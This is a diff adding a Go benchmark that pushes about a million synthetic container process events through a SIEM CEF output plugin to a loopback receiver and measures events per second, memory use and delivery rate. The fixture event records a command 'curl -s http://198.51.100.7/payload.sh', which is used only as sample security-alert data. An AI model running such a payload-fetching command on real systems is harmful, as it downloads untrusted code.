@@ -1,0 +1,128 @@
+package e2e
+
+import (
+	"fmt"
+	"io"
+	"net"
+	"os/exec"
+	"strings"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/kcs-siem/siem-cef/record"
+	"github.com/stretchr/testify/require"
+)
+
+// chunkBytes is the size of the chunks Fluent Bit usually hands an output (its chunks are cut near
+// 2 MB).
+const chunkBytes = 2 << 20
+
+// processChunk is a chunk of about chunkBytes of KCS process events with every runtime key.
+func processChunk(b *testing.B) (path string, events int) {
+	var chunk []byte
+	for len(chunk) < chunkBytes {
+		var err error
+		chunk, err = record.AppendEvent(chunk, fixtureStart, map[string]any{
+			"event_id": "PM-001", "status": "Audit", "agent_group": "prod-agents", "source": "kcs-agent-7xq2k",
+			"cluster": "prod-eu-1", "node": "worker-3", "node_ip": "10.20.0.13", "namespace": "shop",
+			"pod": "web-7d9c6b8f5-x2x4q", "container": "alpine",
+			"container_id": "0ce05246346b6687cb754cf716c57f20f226e159397e8e5985e55b448cb92e3f",
+			"image":        "docker.io/library/alpine:3.20",
+			"image_hash":   "sha256:6f0e4c5a1b2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f",
+			"pid":          2001 + events, "ppid": 1999, "new_pid": 2002 + events, "process": "curl", "euid": 1000, "egid": 1000,
+			"command": "curl -s http://198.51.100.7/payload.sh", "operation": "exec",
+			"src_ip": "10.42.3.17", "src_port": 40022, "dst_ip": "198.51.100.7", "dst_port": 80,
+			"path": "/usr/bin/curl", "old_path": "/tmp/curl", "file_mode": "0755", "direction": 1,
+			"message": "Process curl started in container alpine",
+		})
+		require.NoError(b, err)
+		events++
+	}
+	return writeChunk(b, chunk), events
+}
+
+// countingReceiver counts the messages (lines or datagrams) a loopback SIEM receives.
+func countingReceiver(b *testing.B, network string) (string, *atomic.Int64) {
+	var n atomic.Int64
+	if network == "udp" {
+		pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+		require.NoError(b, err)
+		require.NoError(b, pc.(*net.UDPConn).SetReadBuffer(32<<20))
+		b.Cleanup(func() { pc.Close() })
+		go func() {
+			buf := make([]byte, 65535)
+			for {
+				if _, _, err := pc.ReadFrom(buf); err != nil {
+					return
+				}
+				n.Add(1)
+			}
+		}()
+		return pc.LocalAddr().String(), &n
+	}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(b, err)
+	b.Cleanup(func() { ln.Close() })
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				buf := make([]byte, 1<<20)
+				for {
+					k, err := c.Read(buf)
+					for _, ch := range buf[:k] {
+						if ch == '\n' {
+							n.Add(1)
+						}
+					}
+					if err != nil {
+						if err != io.EOF {
+							c.Close()
+						}
+						return
+					}
+				}
+			}()
+		}
+	}()
+	return ln.Addr().String(), &n
+}
+
+// BenchmarkHostPath (c): a million events through the host and the .so, in chunks of Fluent Bit's
+// usual size, to a loopback receiver; events/s of the whole process and its peak RSS. Each op is one
+// whole run: use -benchtime 1x.
+func BenchmarkHostPath(b *testing.B) {
+	for _, network := range []string{"tcp", "udp"} {
+		for _, total := range []int{100_000, 1_000_000} {
+			b.Run(fmt.Sprintf("%s/%d", network, total), func(b *testing.B) {
+				chunk, perChunk := processChunk(b)
+				flushes := (total + perChunk - 1) / perChunk
+				addr, received := countingReceiver(b, network)
+				script := fmt.Sprintf("register\ninstance a Address=%s Protocol=%s Startup_Check=off\nflushmt a %s 1 %d\nexit a\n",
+					addr, network, chunk, flushes)
+				var rss int64
+				b.ResetTimer()
+				for range b.N {
+					cmd := exec.Command(hostPath, soPath, "-")
+					cmd.Stdin = strings.NewReader(script)
+					out, err := cmd.CombinedOutput()
+					require.NoError(b, err, string(out))
+					require.Contains(b, string(out), fmt.Sprintf("flushmt a ok=%d retry=0", flushes))
+					rss = max(rss, cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss)
+				}
+				b.StopTimer()
+				events := float64(flushes * perChunk * b.N)
+				b.ReportMetric(events/b.Elapsed().Seconds(), "events/s")
+				b.ReportMetric(float64(b.Elapsed().Nanoseconds())/events, "ns/event")
+				b.ReportMetric(float64(rss)/1024, "peak-RSS-MiB")
+				time.Sleep(200 * time.Millisecond) // let the receiver drain
+				b.ReportMetric(float64(received.Load())/events*100, "%received")
+			})
+		}
+	}
+}
